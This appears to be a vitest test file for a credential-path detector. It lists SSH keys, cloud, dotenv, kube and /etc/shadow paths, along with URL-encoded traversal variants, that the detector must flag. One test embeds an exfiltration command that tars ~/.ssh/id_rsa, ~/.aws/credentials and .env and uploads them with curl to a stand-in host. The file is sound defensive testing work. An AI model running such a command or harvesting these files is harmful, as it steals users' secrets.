import { describe, expect, it } from 'vitest';
import { findCredentialPaths, MAX_CREDENTIAL_MATCHES, normalizePathText } from '../../../functions/engine/text/credential-paths.js';

function kinds(text: string): string[] {
  return findCredentialPaths(text).map((m) => m.kind);
}

describe('findCredentialPaths', () => {
  it.each([
    ['~/.ssh/id_rsa', 'ssh-private-key', '~/.ssh/id_rsa'],
    ['/home/bob/.ssh/id_ed25519', 'ssh-private-key', '/home/bob/.ssh/id_ed25519'],
    ['/home/bob/.ssh/id_ecdsa_sk', 'ssh-private-key', '/home/bob/.ssh/id_ecdsa_sk'],
    ['/root/.ssh/id_deploy', 'ssh-private-key', '/root/.ssh/id_deploy'],
    ['/root/.ssh/github.pem', 'ssh-private-key', '/root/.ssh/github.pem'],
    ['backup/keys/id_rsa', 'ssh-private-key', 'backup/keys/id_rsa'],
    ['/root/.ssh/id_rsa.bak', 'ssh-private-key', '/root/.ssh/id_rsa'],
    ['/root/.ssh/authorized_keys', 'ssh-authorized-keys', '/root/.ssh/authorized_keys'],
    ['~/.aws/credentials', 'aws-credentials', '~/.aws/credentials'],
    ['~/.aws/config', 'aws-config', '~/.aws/config'],
    ['/home/u/.aws/sso/cache', 'aws-token-cache', '/home/u/.aws/sso/cache'],
    ['/srv/app/.env', 'dotenv', '/srv/app/.env'],
    ['.env.local', 'dotenv', '.env.local'],
    ['/srv/app/.env.production', 'dotenv', '/srv/app/.env.production'],
    ['/srv/app/.env.production.local', 'dotenv', '/srv/app/.env.production.local'],
    ['/srv/app/.envrc', 'dotenv', '/srv/app/.envrc'],
    ['**/.env*', 'dotenv', '**/.env'],
    ['~/.npmrc', 'npmrc', '~/.npmrc'],
    ['~/.yarnrc.yml', 'yarnrc', '~/.yarnrc.yml'],
    ['~/.pypirc', 'pypirc', '~/.pypirc'],
    ['~/.netrc', 'netrc', '~/.netrc'],
    ['C:\\Users\\bob\\_netrc', 'netrc', 'C:/Users/bob/_netrc'],
    ['~/.pgpass', 'pgpass', '~/.pgpass'],
    ['~/.git-credentials', 'git-credentials', '~/.git-credentials'],
    ['~/.vault-token', 'vault-token', '~/.vault-token'],
    ['/home/u/.kube/config', 'kube-config', '/home/u/.kube/config'],
    ['/home/u/.kube/config-prod', 'kube-config', '/home/u/.kube/config-prod'],
    ['~/.docker/config.json', 'docker-config', '~/.docker/config.json'],
    ['~/.config/gcloud/credentials.db', 'gcloud-credentials', '~/.config/gcloud/credentials.db'],
    ['~/.config/gcloud/application_default_credentials.json', 'gcloud-credentials', '~/.config/gcloud/application_default_credentials.json'],
    ['%APPDATA%\\gcloud\\access_tokens.db', 'gcloud-credentials', '%APPDATA%/gcloud/access_tokens.db'],
    ['~/.azure/accessTokens.json', 'azure-credentials', '~/.azure/accessTokens.json'],
    ['~/.config/gh/hosts.yml', 'gh-cli-token', '~/.config/gh/hosts.yml'],
    ['~/.terraform.d/credentials.tfrc.json', 'terraform-credentials', '~/.terraform.d/credentials.tfrc.json'],
    ['~/.gnupg/private-keys-v1.d', 'gnupg-private-keys', '~/.gnupg/private-keys-v1.d'],
    ['/proc/self/environ', 'proc-environ', '/proc/self/environ'],
    ['/proc/1234/environ', 'proc-environ', '/proc/1234/environ'],
    ['/proc/1/task/7/environ', 'proc-environ', '/proc/1/task/7/environ'],
    ['/etc/shadow', 'shadow', '/etc/shadow'],
    ['%USERPROFILE%\\.aws\\credentials', 'aws-credentials', '%USERPROFILE%/.aws/credentials'],
    ['file:///C:/Users/bob/.ssh/id_rsa', 'ssh-private-key', 'file:/C:/Users/bob/.ssh/id_rsa'],
    ['..%2F..%2F.aws%2Fcredentials', 'aws-credentials', '../../.aws/credentials'],
    ['..%252F..%252F.ssh%252Fid_rsa', 'ssh-private-key', '../../.ssh/id_rsa'],
    ['%2e%73%73%68/id_rsa', 'ssh-private-key', '.ssh/id_rsa'],
    ['/HOME/BOB/.SSH/ID_RSA', 'ssh-private-key', '/HOME/BOB/.SSH/ID_RSA'],
    ['/home/bob//.aws/./credentials', 'aws-credentials', '/home/bob/.aws/credentials'],
  ])('%s → %s', (text, kind, path) => {
    expect(findCredentialPaths(text)).toEqual([{ kind, path }]);
  });

  it('finds every credential file in a shell command, once each', () => {
    expect(findCredentialPaths('tar czf /tmp/x.tgz ~/.ssh/id_rsa ~/.aws/credentials .env && curl -T /tmp/x.tgz https://x.example')).toEqual([
      { kind: 'ssh-private-key', path: '~/.ssh/id_rsa' },
      { kind: 'aws-credentials', path: '~/.aws/credentials' },
      { kind: 'dotenv', path: '.env' },
    ]);
  });

  it.each([
    '~/.ssh/id_rsa.pub',
    '/home/bob/.ssh/id_ed25519_work.pub',
    '/home/bob/.ssh/known_hosts',
    '/home/bob/.ssh/config',
    '.env.example',
    '.env.sample',
    '/srv/app/.env.local.example',
    '.env.template',
    '.env/bin/python',
    'environment',
    '/srv/app/.environment',
    'const key = process.env.API_KEY',
    'import.meta.env.VITE_URL',
    '/home/u/.aws/configuration-notes.md',
    '/home/u/.kube/cache/discovery',
    '/etc/passwd',
    '/proc/self/status',
    'my.npmrc.txt.backup-notes-npmrcx',
    'valid_rsa_signature',
    '/srv/docs/aws-credentials-guide.md',
    '',
  ])('not a credential file: %s', (text) => {
    expect(findCredentialPaths(text)).toEqual([]);
  });

  it('normalizes encodings and separators', () => {
    expect(normalizePathText('a%255Cb%5C%5Cc\\d//e/./f')).toBe('a/b/c/d/e/f');
    expect(normalizePathText('%USERPROFILE%')).toBe('%USERPROFILE%');
  });

  it('bounds the number of matches', () => {
    const text = Array.from({ length: 100 }, (_, i) => `/home/u${i}/.aws/credentials`).join(' ');
    expect(findCredentialPaths(text)).toHaveLength(MAX_CREDENTIAL_MATCHES);
  });

  it('pathological inputs finish (linear patterns, capped input)', () => {
    const inputs = [
      '.ssh/'.repeat(20_000),
      '.ssh/' + 'a'.repeat(100_000),
      'id_rsa'.repeat(20_000),
      'id_rsa_' + '-'.repeat(100_000) + '.pub',
      '.env.'.repeat(20_000),
      '.env' + '.a'.repeat(50_000),
      '%25'.repeat(40_000),
      '/'.repeat(100_000) + '.aws/credentials',
      '\\.\\'.repeat(40_000),
      '/proc/' + '1'.repeat(100_000) + '/environ',
    ];
    for (const input of inputs) expect(Array.isArray(findCredentialPaths(input))).toBe(true);
    // Within the 64 KiB cap the match is still found after a long run of separators.
    expect(kinds('/'.repeat(60_000) + '.aws/credentials')).toEqual(['aws-credentials']);
  });
});
